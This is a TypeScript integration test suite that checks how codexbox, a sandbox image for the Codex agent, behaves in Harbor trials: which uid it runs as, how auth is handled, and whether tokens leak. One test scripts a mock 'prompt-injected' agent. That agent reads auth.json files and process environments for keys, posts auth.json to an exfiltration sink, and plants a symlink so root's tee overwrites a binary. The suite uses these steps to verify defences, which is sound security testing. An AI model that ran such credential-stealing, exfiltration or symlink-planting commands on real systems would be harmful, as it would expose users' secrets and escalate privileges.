import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MockBackend, type MockBackendOptions } from '../../src/demo/mock-backend.js';
import { chatgptAuthJson, findLeaks, makeCanaries } from '../support/canary.js';
import { ExfiltrationSink } from '../support/exfiltration-sink.js';
import { detachedPost, runCommands } from '../support/hostile-model.js';
import { metadataSchemaErrors } from '../support/metadata-schema.js';
import { codexbox } from './support/cli.js';
import { repoRoot } from './support/compose.js';
import { type HarborTrial, parseVersion, resumeLast, runHarborTrial } from './support/harbor-agent.js';
import { artifactsDir, codexHomeWith, containerName, environment, output } from './support/harness.js';

const both = (result: { stdout: string; stderr: string }) => `${result.stdout}\n${result.stderr}`;

// The codexbox image as a drop-in base for Harbor's own codex agent (`harbor run -a codex`):
// the task image is built FROM it unchanged, and Harbor's steps are replayed exactly (see
// support/harbor-agent.ts for the pinned version). The mock model makes codex run `id -u` through
// its exec_command tool, so the answer shows which uid the agent's commands really ran as.
const taskImage = `codexbox-harbor-task:${process.pid}`;
const inHours = (hours: number) => Math.floor(Date.now() / 1000) + hours * 3600;

async function startTrialContainer(env: Record<string, string> = {}): Promise<string> {
  const name = containerName();
  const envFlags = Object.entries({ NO_PROXY: '127.0.0.1,localhost', ...env }).flatMap(([key, value]) => [
    '-e',
    `${key}=${value}`,
  ]);
  const started = await execa(
    'docker',
    ['run', '-d', '--network', 'host', '--name', name, ...envFlags, taskImage, 'sleep', 'infinity'],
    { reject: false },
  );
  expect(started.exitCode, output(started)).toBe(0);
  return name;
}

async function containerText(name: string, command: string): Promise<string> {
  return (await execa('docker', ['exec', name, 'sh', '-c', command], { reject: false })).stdout;
}

// An access-only export, as README's Harbor section tells users to make one.
async function accessOnlyExport(canaries: ReturnType<typeof makeCanaries>): Promise<string> {
  const home = await codexHomeWith(chatgptAuthJson(canaries));
  const file = join(await artifactsDir(), 'trial-auth.json');
  const exported = await codexbox([
    'auth',
    'export',
    '--access-only',
    '--min-ttl',
    '1h',
    '--output',
    file,
    '--codex-home',
    home,
  ]);
  expect(exported.exitCode, output(exported)).toBe(0);
  return file;
}

// What each command printed: codex's unified exec puts it after an `Output:` header.
const toolOutputsOf = (backend: MockBackend) =>
  backend.toolOutputs.map((entry) => entry.output.split('Output:\n').at(-1)!.trim());

describe.skipIf(!environment.available)("Harbor's own codex agent on a task image FROM codexbox", () => {
  const backends: MockBackend[] = [];
  const sinks: ExfiltrationSink[] = [];
  beforeAll(async () => {
    const build = await execa(
      'docker',
      [
        'build',
        '-q',
        '--build-arg',
        `CODEXBOX_IMAGE=${environment.image}`,
        '-t',
        taskImage,
        join(repoRoot, 'compose/harbor/hello-codexbox/environment'),
      ],
      { reject: false },
    );
    expect(build.exitCode, output(build)).toBe(0);
  });
  afterAll(async () => {
    for (const backend of backends.splice(0)) await backend.close();
    for (const sink of sinks.splice(0)) await sink.close();
    await execa('docker', ['rmi', '-f', taskImage], { reject: false });
  });

  async function mock(options: MockBackendOptions = {}) {
    const backend = await MockBackend.start({
      script: runCommands(['id -u'], 'HARBOR-TRIAL-DONE'),
      ...options,
    });
    backends.push(backend);
    return backend;
  }

  it.each([
    ['root (no default user)', undefined],
    ['the non-root default user codex', 'codex'],
  ])(
    'a ChatGPT trial as %s: codex runs as uid 1000, metadata lands in /logs/agent, no token under /logs',
    async (_label, user) => {
      const canaries = makeCanaries({ exp: inHours(4) });
      const backend = await mock();
      const container = await startTrialContainer();
      const trial: HarborTrial = {
        container,
        user,
        instruction: 'say who you are',
        authJsonPath: await accessOnlyExport(canaries),
        openaiBaseUrl: `${backend.url}/v1`,
      };
      const result = await runHarborTrial(trial, { keep: true });
      expect(result.installed.exitCode).toBe(0);
      // Harbor compares `codex --version` with the version the user pins (`-a codex --agent-version`).
      expect(parseVersion(result.version.stdout)).toBe(environment.codexVersion);
      // Root gets the line without starting codex in the agent's /codex-home; it is codex's own.
      const real = await containerText(
        container,
        'su codex -s /bin/sh -c "/usr/local/lib/codexbox/bin/codex --version"',
      );
      expect(result.version.stdout.trim()).toBe(real.trim());
      expect(result.run.exitCode, both(result.run)).toBe(0);
      expect(result.run.stdout).toContain('HARBOR-TRIAL-DONE');
      expect(toolOutputsOf(backend)).toContain('1000');
      const resumed = await resumeLast(trial, 'and again');
      expect(resumed.run.exitCode, both(resumed.run)).toBe(0);
      expect(JSON.stringify(backend.responsesRequests.at(-1)?.body)).toContain('say who you are');
      const metadata = JSON.parse(
        await containerText(container, 'cat /logs/agent/codexbox/auth-metadata.json'),
      );
      expect(metadataSchemaErrors(metadata)).toEqual([]);
      expect(metadata.outcome).toEqual({ source: 'child', exitCode: 0, kind: 'exited' });
      expect(await containerText(container, 'ls /logs/agent/sessions/*/*/*')).toMatch(/rollout-.*\.jsonl/);
      const logs = await containerText(container, 'find /logs -type f -exec cat {} +');
      expect(findLeaks(logs + both(result.run), [canaries.refreshToken, canaries.accessToken])).toEqual([]);
      expect(backend.refreshRequests).toHaveLength(0);
      process.stderr.write(
        `[harbor-agent] ${_label}: id -u -> ${toolOutputsOf(backend).join(',')}; codex.txt ${result.run.stdout.length} chars; ` +
          `metadata source ${metadata.source.kind}, broker ${metadata.broker.enabled}; resume answered ${resumed.run.stdout.includes('HARBOR-TRIAL-DONE')}\n`,
      );
    },
  );

  // A prompt-injected agent in an API-key trial: reads everything, leaves a watcher for after the
  // turn, and plants a link where Harbor's root `tee` writes on the next exec (resume).
  it('a hostile API-key trial as root: the key stays out of reach, and the next exec writes through no link', async () => {
    const canaries = makeCanaries();
    const sink = await ExfiltrationSink.start();
    sinks.push(sink);
    const planted = [
      'mv /logs/agent/codex.txt /logs/agent/first.txt; ln -s /usr/local/bin/codexbox-exec /logs/agent/codex.txt',
      'ls -l /logs/agent',
    ].join('; ');
    const readAll =
      'cat /tmp/codex-secrets/auth.json /tmp/codex-home/auth.json /codex-home/auth.json 2>&1; env; ' +
      'cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep -i key';
    const backend = await mock({
      script: (context) =>
        context.turn === 1
          ? runCommands(
              ['id -u', readAll, detachedPost(sink.url, 'cat /tmp/codex-secrets/auth.json', 2), planted],
              'HARBOR-TRIAL-DONE',
            )(context)
          : runCommands(['id -u'], 'RESUMED')(context),
    });
    const container = await startTrialContainer();
    const victimBefore = await containerText(container, 'sha256sum /usr/local/bin/codexbox-exec');
    expect(await containerText(container, 'find / -xdev -type f -perm /6000')).toBe('');
    const trial: HarborTrial = {
      container,
      instruction: 'look around',
      openaiApiKey: canaries.apiKey,
      openaiBaseUrl: `${backend.url}/v1`,
    };
    const first = await runHarborTrial(trial, { keep: true });
    expect(first.run.exitCode, both(first.run)).toBe(0);
    expect(toolOutputsOf(backend)[0]).toBe('1000');
    await new Promise((resolve) => setTimeout(resolve, 3000));
    const resumed = await resumeLast(trial, 'go on');
    expect(resumed.run.exitCode, both(resumed.run)).toBe(0);
    expect(resumed.run.stdout).toContain('RESUMED');
    expect(await containerText(container, 'sha256sum /usr/local/bin/codexbox-exec')).toBe(victimBefore);
    const sent =
      backend.toolOutputs.map((entry) => entry.output).join('\n') +
      sink.received.map((r) => r.body).join('\n');
    expect(sent).toContain('Permission denied');
    expect(findLeaks(sent, [canaries.apiKey])).toEqual([]);
    const upstream = backend.responsesRequests.map((request) => request.authorization);
    expect(upstream.every((value) => value === `Bearer ${canaries.apiKey}`)).toBe(true);
    const logs = await containerText(container, 'find /logs -type f -exec cat {} +');
    expect(findLeaks(logs + both(first.run) + both(resumed.run), [canaries.apiKey])).toEqual([]);
    process.stderr.write(
      `[harbor-agent] hostile API-key trial: ${backend.toolOutputs.length} tool outputs, ${sink.received.length} posts, key hits 0; ` +
        `codexbox-exec unchanged after the link was planted for root's tee\n`,
    );
  });

  it('refuses an auth file with a refresh token (every trial would race to use it) with exit 78', async () => {
    const canaries = makeCanaries({ exp: inHours(4) });
    const backend = await mock();
    const file = join(await artifactsDir(), 'auth.json');
    await writeFile(file, JSON.stringify(chatgptAuthJson(canaries)), { mode: 0o600 });
    const container = await startTrialContainer();
    const result = await runHarborTrial({
      container,
      instruction: 'hi',
      authJsonPath: file,
      openaiBaseUrl: `${backend.url}/v1`,
    });
    expect(result.run.exitCode).toBe(78);
    expect(result.run.stdout).toContain('ERR_REFRESH_TOKEN_NOT_ACCEPTED');
    expect(backend.responsesRequests).toHaveLength(0);
    expect(findLeaks(both(result.run), canaries.all)).toEqual([]);
  });

  it('eight concurrent trials from one export: all answer, zero refresh calls', async () => {
    const canaries = makeCanaries({ exp: inHours(4) });
    const backend = await MockBackend.start({ answer: () => 'CONCURRENT-TRIAL-OK' });
    backends.push(backend);
    const authJsonPath = await accessOnlyExport(canaries);
    const containers = await Promise.all(
      Array.from({ length: 8 }, () =>
        startTrialContainer({ CODEX_REFRESH_TOKEN_URL_OVERRIDE: backend.refreshUrl }),
      ),
    );
    const results = await Promise.all(
      containers.map((container) =>
        runHarborTrial({ container, instruction: 'hi', authJsonPath, openaiBaseUrl: `${backend.url}/v1` }),
      ),
    );
    expect(results.map((result) => result.run.exitCode)).toEqual(Array(8).fill(0));
    expect(results.every((result) => result.run.stdout.includes('CONCURRENT-TRIAL-OK'))).toBe(true);
    expect(backend.refreshRequests).toHaveLength(0);
    process.stderr.write(
      `[harbor-agent] 8 concurrent trials: 8 answers, ${backend.refreshRequests.length} refresh calls\n`,
    );
  });
});
